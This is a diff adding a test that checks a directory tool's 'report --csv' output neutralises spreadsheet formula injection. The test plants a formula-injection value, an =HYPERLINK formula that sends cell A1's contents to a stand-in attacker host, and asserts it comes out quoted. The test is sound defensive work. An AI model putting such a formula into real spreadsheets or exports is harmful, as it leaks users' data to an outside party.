@@ -92,6 +92,23 @@ describe('directory report', () => {
     assert.equal(json.coverage.length, 26 * 8);
   });
 
+  it('report --csv guards every cell against formulas, like export --csv', () => {
+    const copy = new DataCopy();
+    try {
+      const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Samaritans")';
+      copy.edit('services/frank.json', (s) => {
+        s.name = formula;
+        s.reviewed = '2023-06-15';
+      });
+      const out = run('report', '--data', copy.root, '--today', '2026-01-01', '--csv').out;
+      const cells = (parse(out, { relax_column_count: true }) as string[][]).flat();
+      assert.ok(cells.includes(`'${formula}`), 'the name is written, guarded');
+      assert.deepEqual(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), [], 'no cell Excel would run');
+    } finally {
+      copy.remove();
+    }
+  });
+
   it('refuses bad options with usage (exit 64) and broken data with its problems (exit 1)', () => {
     assert.equal(run('report', '--months', 'twelve').code, 64);
     assert.equal(run('report', '--today', '1/1/2026').code, 64);
